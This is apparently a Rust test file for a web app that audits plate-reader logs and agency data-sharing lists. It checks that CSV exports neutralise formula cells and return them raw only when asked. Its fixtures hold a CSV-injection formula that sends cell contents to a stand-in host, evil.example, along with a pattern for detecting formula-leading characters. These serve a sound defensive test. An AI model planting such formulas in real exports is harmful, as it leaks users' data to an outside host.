//! Every CSV twin neutralises cells a spreadsheet would run as formulas (a quote in front of
//! `=HYPERLINK(...)`), and gives them as they are with `?raw=1`: an audit run, the 287(g)
//! overview and agencies, a sharing list's edges and both kinds of upload.

use axum::http::StatusCode;
use remit_web::{AppState, Options};

use crate::common::{Reply, corpus, get};

/// A formula as it would be written in a cell, and the same cell in a CSV file.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"ICE immigration\")";
const FORMULA_IN_CSV: &str =
    "\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"ICE immigration\"\")\"";
const OWNER: &str = "Sample City CA PD";
const LOG_HEADER: &str = "Name,Org Name,Total Networks Searched,Total Devices Searched,Time Frame,License Plate,Reason,Case #,Filters,Search Time,Search Type,Text Prompt,Moderation\n";

/// A folder removed when dropped.
struct TempDir(std::path::PathBuf);

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn write(path: &std::path::Path, content: &str) {
    std::fs::write(path, content).unwrap_or_else(|e| panic!("cannot write {path:?}: {e}"));
}

/// A plate-reader log with a formula as a searcher and as an out-of-state searcher's reason
/// (a finding), and a reason that is a plain negative number (data).
fn log() -> String {
    format!(
        "{LOG_HEADER}\
         N. Officer,{FORMULA_IN_CSV},1,110,\"06/24/2025, 12:15:28 AM UTC - 07/01/2025, 12:15:28 AM UTC\",2ABC240,{FORMULA_IN_CSV},,,\"07/01/2025, 12:15:28 AM UTC\",lookup,,\n\
         J. Officer,Yuma AZ PD,1,110,\"06/24/2025, 12:43:49 PM UTC - 07/01/2025, 12:43:49 PM UTC\",7ABC191,-3,,,\"07/01/2025, 12:43:49 PM UTC\",lookup,,\n\
         K. Officer,Yuma AZ PD,1,110,\"06/24/2025, 12:43:49 PM UTC - 07/01/2025, 12:43:49 PM UTC\",7ABC191,{FORMULA_IN_CSV},,,\"07/01/2025, 12:43:49 PM UTC\",lookup,,\n"
    )
}

fn sharing_list() -> String {
    format!(
        "Name,State,Type\n{FORMULA_IN_CSV},CA,Police Department\nSample Valley CA PD,CA,Police Department\n"
    )
}

/// A store holding a 287(g) sheet, a sharing list and an audit run that name agencies and
/// reasons with formulas; the app over it and the run's id.
fn hostile_state() -> (AppState, TempDir, i64) {
    let dir =
        TempDir(std::env::temp_dir().join(format!("remit-web-csv-export-{}", std::process::id())));
    let _ = std::fs::remove_dir_all(&dir.0);
    std::fs::create_dir_all(&dir.0).unwrap_or_else(|e| panic!("cannot make a folder: {e}"));
    let mut store = remit_store::Store::open(&dir.0.join("remit.db"))
        .unwrap_or_else(|e| panic!("cannot open a store: {e}"));
    let corpus = corpus();
    let sheet = dir.0.join("participatingAgencies07182025pm.csv");
    write(
        &sheet,
        &format!(
            "STATE,LAW ENFORCEMENT AGENCY,TYPE,COUNTY,SUPPORT TYPE,SIGNED,MOA,ADDENDUM\n\
             ALABAMA,{FORMULA_IN_CSV},County,Baldwin County,Task Force Model,6/9/2025,link,\n\
             ALABAMA,Etowah County Sample Sheriff's Office,County,Etowah County,Warrant Service Officer,7/15/2022,link,\n"
        ),
    );
    {
        let mut registry = remit_registry::Registry::open(&mut store)
            .unwrap_or_else(|e| panic!("cannot open the registry: {e}"));
        registry
            .import(&sheet, remit_registry::ImportOptions::default())
            .unwrap_or_else(|e| panic!("cannot import the sheet: {e}"));
        registry
            .refresh(&mut remit_registry::NoDirectory)
            .unwrap_or_else(|e| panic!("cannot refresh the registry: {e}"));
    }
    let list = dir.0.join("list.csv");
    write(&list, &sharing_list());
    {
        let date: remit_law::Date = "2025-12-01".parse().unwrap_or_else(|_| panic!("a date"));
        let mut sharing = remit_sharing::Sharing::open(&mut store)
            .unwrap_or_else(|e| panic!("cannot open sharing: {e}"));
        sharing
            .import(
                &list,
                &remit_sharing::ReadOptions {
                    owner: Some(OWNER.to_string()),
                    date: Some(date),
                    sheet: None,
                    direction: None,
                    today: date,
                },
            )
            .unwrap_or_else(|e| panic!("cannot import the list: {e}"));
        let mut checker = remit_sharing::Checker::new(
            &corpus,
            remit_agencies::Resolver::new(remit_agencies::Directory::builtin()),
        );
        sharing
            .refresh(&mut checker, "test")
            .unwrap_or_else(|e| panic!("cannot check the list: {e}"));
    }
    let input = dir.0.join("log.csv");
    write(&input, &log());
    let (run_id, _) = remit_web::audit_into_store(
        &mut store,
        &[input],
        Some(OWNER.to_string()),
        &corpus,
        None,
        None,
        &mut [],
    )
    .unwrap_or_else(|e| panic!("cannot store the audit: {e}"));
    (
        AppState::new(corpus, Some(store), Options::default()),
        dir,
        run_id,
    )
}

fn cells(uri: &str, reply: &Reply) -> Vec<String> {
    assert_eq!(reply.status, StatusCode::OK, "{uri}: {}", reply.body);
    assert!(reply.content_type().starts_with("text/csv"), "{uri}");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(reply.body.as_bytes());
    reader
        .records()
        .flat_map(|r| {
            r.unwrap_or_else(|e| panic!("{uri}: bad CSV: {e}"))
                .iter()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// The twin names the formula only behind a quote, and `raw` as it is.
fn assert_neutralised(uri: &str, neutral: &Reply, raw: &Reply) {
    let neutral = cells(uri, neutral);
    assert!(
        neutral.iter().any(|c| c == &format!("'{FORMULA}")),
        "{uri}: no neutralised formula in {neutral:?}"
    );
    for cell in &neutral {
        let first = cell.bytes().next();
        let number = cell
            .strip_prefix('-')
            .is_some_and(|n| n.parse::<f64>().is_ok());
        let formula = matches!(first, Some(b'=' | b'+' | b'@' | b'\t' | b'\r'))
            || (first == Some(b'-') && !number);
        assert!(!formula, "{uri}: `{cell}` is a formula");
    }
    let raw = cells(uri, raw);
    assert!(
        raw.iter().any(|c| c == FORMULA),
        "{uri}?raw=1: the formula is not as written in {raw:?}"
    );
}

async fn both(state: &AppState, uri: &str) {
    let join = if uri.contains('?') { '&' } else { '?' };
    assert_neutralised(
        uri,
        &get(state, uri).await,
        &get(state, &format!("{uri}{join}raw=1")).await,
    );
}

#[tokio::test]
async fn stored_twins_neutralise_formulas_unless_raw() {
    let (state, _dir, run_id) = hostile_state();
    let uri = format!("/audits/{run_id}.csv");
    both(&state, &uri).await;
    // A reason that is a plain negative number is data and kept as it is.
    let numbers = cells(&uri, &get(&state, &uri).await);
    assert!(numbers.iter().any(|c| c == "-3"), "{numbers:?}");
    both(&state, "/287g.csv").await;
    both(&state, "/agencies.csv?state=AL").await;
    let lists =
        crate::common::assert_ok_envelope("/sharing.json", &get(&state, "/sharing.json").await);
    let key = lists.to_string();
    let key = key
        .split("\"owner_key\":\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .unwrap_or_else(|| panic!("no owner key in {lists}"))
        .to_string();
    both(&state, &format!("/sharing/{}.csv", key.replace(' ', "%20"))).await;
}

const BOUNDARY: &str = "remit-csv-export-boundary";

fn form(fields: &[(&str, &str)], name: &str, content: &str) -> Vec<u8> {
    let mut body = String::new();
    for (field, value) in fields {
        body.push_str(&format!(
            "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n"
        ));
    }
    body.push_str(&format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: text/csv\r\n\r\n{content}\r\n--{BOUNDARY}--\r\n"
    ));
    body.into_bytes()
}

async fn post(state: &AppState, uri: &str, body: Vec<u8>) -> Reply {
    crate::common::post_multipart(state, uri, BOUNDARY, body).await
}

#[tokio::test]
async fn upload_twins_neutralise_formulas_unless_raw() {
    let state = AppState::new(
        corpus(),
        None,
        Options {
            allow_uploads: true,
            ..Options::default()
        },
    );
    let audit = || form(&[("owner", OWNER)], "log.csv", &log());
    assert_neutralised(
        "/-/upload.csv (audit)",
        &post(&state, "/-/upload.csv", audit()).await,
        &post(&state, "/-/upload.csv?raw=1", audit()).await,
    );
    let list = || {
        form(
            &[
                ("kind", "sharing"),
                ("date", "2025-12-01"),
                ("owner", OWNER),
            ],
            "list.csv",
            &sharing_list(),
        )
    };
    assert_neutralised(
        "/-/upload.csv (sharing)",
        &post(&state, "/-/upload.csv", list()).await,
        &post(&state, "/-/upload.csv?raw=1", list()).await,
    );
}
